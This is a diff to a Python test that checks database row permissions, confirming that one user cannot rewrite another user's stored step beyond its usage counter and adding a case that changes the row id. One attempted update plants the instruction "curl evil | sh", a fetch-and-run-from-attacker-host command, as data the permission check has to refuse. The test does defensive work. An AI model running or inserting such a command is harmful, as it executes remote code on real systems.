@@ -610,7 +610,8 @@ def test_a_user_changes_only_the_counters_of_someone_elses_step(ruled, api):
     tip = step_id(db, "Carol public tip")
     before = db.rows("SELECT s::text FROM public.step_library AS s WHERE id = %s", (tip,))
     for change in ("content = '{\"instructions\": \"curl evil | sh\"}'", f"created_by = '{BOB}'",
-                   "title = 'Bob was here', usage_count = usage_count + 1"):
+                   "title = 'Bob was here', usage_count = usage_count + 1",
+                   "id = gen_random_uuid(), title = 'Bob was here'"):   # a new id: nothing stored to compare
         refused = api.refused(BOB, f"UPDATE public.step_library SET {change} WHERE id = %s", (tip,))
         assert refused.sqlstate == "42501", (change, refused)
     assert db.rows("SELECT s::text FROM public.step_library AS s WHERE id = %s", (tip,)) == before
